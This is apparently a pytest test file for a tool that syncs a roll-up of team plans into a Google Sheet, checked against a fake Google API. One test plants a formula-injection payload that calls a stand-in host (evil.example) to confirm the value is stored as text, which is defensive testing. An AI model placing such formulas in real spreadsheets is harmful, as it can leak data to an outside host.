"""The roll-up as a Google Sheet (mapsheet/sync/gsheet.py), written into the local Google and read back
the way mapsheet reads any Sheet: the same cells as the .xlsx roll-up, charts, links to the plans,
replaced in place by write-then-swap. Every request is checked against the discovery documents."""

from __future__ import annotations

import datetime as dt

import pytest

from fake import FakeGoogle

from conftest import TODAY
from drive_plans import fill_folder, small_plan, xlsx_bytes
from mapsheet.backends.xlsx_read import read_workbook
from cli.runner import run_cli
from mapsheet.google.client import Caller, Retry
from mapsheet.google.grid import READ_FIELDS, workbook_from_response
from mapsheet.sync import gsheet, sync
from mapsheet.sync.gsheet import STAGING, GoogleRollup
from test_drive_sync import google


def values(book) -> dict[str, list[list]]:
    """Each sheet's values, numbers as floats, trailing blanks dropped: what a reader sees."""
    def cell(v):
        if isinstance(v, bool) or v is None:
            return "" if v is None else v
        if isinstance(v, (int, float)):
            return float(v)
        if isinstance(v, dt.datetime) and v.time() == dt.time():
            return v.date()
        return v

    out = {}
    for sheet in book.sheets:
        rows = [[cell(v) for v in row] for row in sheet.rows]
        rows = [row[:max([i + 1 for i, v in enumerate(row) if v != ""], default=0)] for row in rows]
        while rows and not rows[-1]:
            rows.pop()
        out[sheet.name] = rows
    return out


def google_values(g: FakeGoogle, sid: str) -> dict[str, list[list]]:
    client = google(g)()
    return values(workbook_from_response(client.get(sid, fields=READ_FIELDS), source="roll-up"))


@pytest.fixture
def team(sample_plans):
    g = FakeGoogle()
    folder = g.add_folder("Team plans")
    fill_folder(g, folder, [p for _, p in sample_plans], 25, native_every=3)
    return g, folder


def test_the_google_rollup_reads_back_as_the_xlsx_rollup_with_charts_and_links(team, tmp_path):
    g, folder = team
    xlsx = tmp_path / "rollup.xlsx"
    sync([folder], xlsx, today=TODAY, google=google(g), writer="xlsxwriter")
    sid = g.add_spreadsheet("Roll-up", parents=[folder])  # in the plans' own folder: never taken for a plan
    g.reset_log()
    report = sync([folder], GoogleRollup(google(g)(), sid), today=TODAY, google=google(g),
                  history=tmp_path / "g.sqlite")
    assert report.plans == 25
    # 1 read of the tab list, the new sheets in batches of at most 20,000 cells, one swap, 1 version read
    writes = g.count(operation="sheets.spreadsheets.batchUpdate")
    assert writes == report.google.requests == -(-report.google.cells // gsheet.CELLS_PER_REQUEST) + 1
    assert writes <= 3

    expected, got = values(read_workbook(xlsx)), google_values(g, sid)
    assert list(got) == list(expected) == ["Dashboard", "Deals", "Actions", "Overdue", "Milestones", "Risks",
                                           "Changes", "Problems"]
    for name in expected:
        assert got[name] == expected[name], name

    book = g.spreadsheet(sid)
    dashboard = book.sheet_by_title("Dashboard")
    titles = [c["spec"]["title"] for c in dashboard.charts]
    assert titles == ["Plans by health band", "Plans by owner and band", "Close dates by month",
                      "Overdue actions by party"]
    deals = book.sheet_by_title("Deals")
    links = [deals.cells[(r, 0)]["userEnteredFormat"]["textFormat"]["link"]["uri"] for r in range(2, 27)]
    plan_links = {f.id: f for f in g.files.values()}
    assert all(link.startswith("https://") and link.split("/")[5] in plan_links for link in links)
    assert deals.properties["gridProperties"]["frozenRowCount"] == 2
    assert any(rule["booleanRule"]["condition"]["type"] == "TEXT_EQ" for rule in deals.conditional_formats)
    assert g.violations == []


def test_replaced_in_place_by_write_then_swap(team, tmp_path):
    g, folder = team
    sid = g.add_spreadsheet("Roll-up")
    target = GoogleRollup(google(g)(), sid)
    sync([folder], target, today=TODAY, google=google(g), history=tmp_path / "g.sqlite")
    first = [s.sheet_id for s in g.spreadsheet(sid).sheets]
    g.edit(next(f.id for f in g.files.values() if f.id in g.books and f.id != sid), "Overview!B30", "x")
    g.reset_log()
    sync([folder], target, today=TODAY, google=google(g), history=tmp_path / "g.sqlite")
    book = g.spreadsheet(sid)
    assert [s.title for s in book.sheets][0] == "Dashboard" and not any(STAGING in s.title for s in book.sheets)
    assert not set(first) & {s.sheet_id for s in book.sheets}  # every sheet new, the file the same
    bodies = [r.json for r in g.requests if r.operation == "sheets.spreadsheets.batchUpdate"]
    for body in bodies[:-1]:  # before the swap, only hidden staging sheets are touched
        for request in body["requests"]:
            assert "deleteSheet" not in request or request["deleteSheet"]["sheetId"] not in first
            added = request.get("addSheet", {}).get("properties")
            assert added is None or (added["hidden"] and added["title"].endswith(STAGING))
    swap = bodies[-1]["requests"]
    assert {r["deleteSheet"]["sheetId"] for r in swap if "deleteSheet" in r} == set(first)


def test_own_write_never_triggers_a_rewrite_but_someone_elses_edit_does(team, tmp_path):
    g, folder = team
    sid = g.add_spreadsheet("Roll-up", parents=[folder])
    target = GoogleRollup(google(g)(), sid)
    history = tmp_path / "g.sqlite"
    sync([folder], target, today=TODAY, google=google(g), history=history)
    g.reset_log()
    again = sync([folder], target, today=TODAY, google=google(g), history=history)
    assert (again.read, again.written) == (0, False)
    assert g.count(operation="sheets.spreadsheets.batchUpdate") == 0
    g.edit(sid, "Deals!A3", "someone typed here")
    edited = sync([folder], target, today=TODAY, google=google(g), history=history)
    assert (edited.read, edited.written) == (0, True)
    assert g.values(sid, "Deals!A3")[0][0] != "someone typed here"


def test_a_write_cut_off_is_written_again_whole(team, tmp_path):
    g, folder = team
    sid = g.add_spreadsheet("Roll-up")
    g.inject("503", times=1, url=":batchUpdate", after=1)  # the swap fails; the staging sheets stay hidden
    g.inject("timeout", times=1, url=":batchUpdate", after=3, applied=True)  # then a swap lands unheard
    report = sync([folder], GoogleRollup(google(g)(), sid), today=TODAY, google=google(g),
                  history=tmp_path / "g.sqlite")
    book = g.spreadsheet(sid)
    assert [s.title for s in book.sheets] == ["Dashboard", "Deals", "Actions", "Overdue", "Milestones", "Risks",
                                              "Changes", "Problems"]
    assert len(g.values(sid, "Deals!A3:A100")) == report.rows["Deals"] == 25 - report.unreadable


def test_plan_text_that_looks_like_a_formula_stays_text(sample_plans, tmp_path):
    g = FakeGoogle()
    folder = g.add_folder("Plans")
    sheets = small_plan(sample_plans[0][1])
    deal_row = next(i for i, row in enumerate(sheets["Overview"]) if row and row[0] == "Deal name")
    sheets["Overview"][deal_row][1] = '=IMPORTXML("https://evil.example","//a")'
    g.add_file("plan.xlsx", xlsx_bytes(sheets), parents=[folder])
    sid = g.add_spreadsheet("Roll-up")
    sync([folder], GoogleRollup(google(g)(), sid), today=TODAY, google=google(g), history=tmp_path / "g.sqlite")
    cell = g.cell(sid, "Deals!A3")
    assert cell["userEnteredValue"] == {"stringValue": '=IMPORTXML("https://evil.example","//a")'}


def test_a_rollup_past_googles_cell_limit_is_refused_clearly(team, tmp_path, monkeypatch):
    g, folder = team
    sid = g.add_spreadsheet("Roll-up")
    monkeypatch.setattr(gsheet, "CELL_LIMIT", 2_000)  # the real 10 million would take minutes to build
    with pytest.raises(Exception, match="Google Sheets holds 2,000 a spreadsheet.*--out rollup.xlsx"):
        sync([folder], GoogleRollup(google(g)(), sid), today=TODAY, google=google(g), history=tmp_path / "g.sqlite")
    assert g.count(operation="sheets.spreadsheets.batchUpdate") == 0


def test_cli_out_google_new_in_a_folder_then_out_url(team, tmp_path, monkeypatch):
    g, folder = team
    monkeypatch.chdir(tmp_path)
    shared = g.add_folder("Managers")
    obj = {"google": {"session": g.session(), "caller": Caller(g.user), "retry": Retry(deadline=5, sleep=lambda s: None)}}
    out = run_cli(["sync", f"https://drive.google.com/drive/folders/{folder}", "--out-google", "new",
                              "--folder", shared, "--today", TODAY.isoformat()], obj=obj)
    assert out.exit_code == 1 and "Wrote" in out.output, out.output  # 1: some sample plans drift on purpose
    made = [f for f in g.files.values() if shared in f.parents]
    assert len(made) == 1 and made[0].id in out.output.replace("\n", "")
    assert "batchUpdate requests" in out.output
    url = f"https://docs.google.com/spreadsheets/d/{made[0].id}/edit"
    again = run_cli(["sync", folder, "--out", url, "--today", TODAY.isoformat()], obj=obj)
    assert again.exit_code == 1 and again.exception is None or isinstance(again.exception, SystemExit), again.output
    assert "Nothing changed since the last sync" in again.output
    assert (tmp_path / f"rollup-{made[0].id}.history.sqlite").exists()
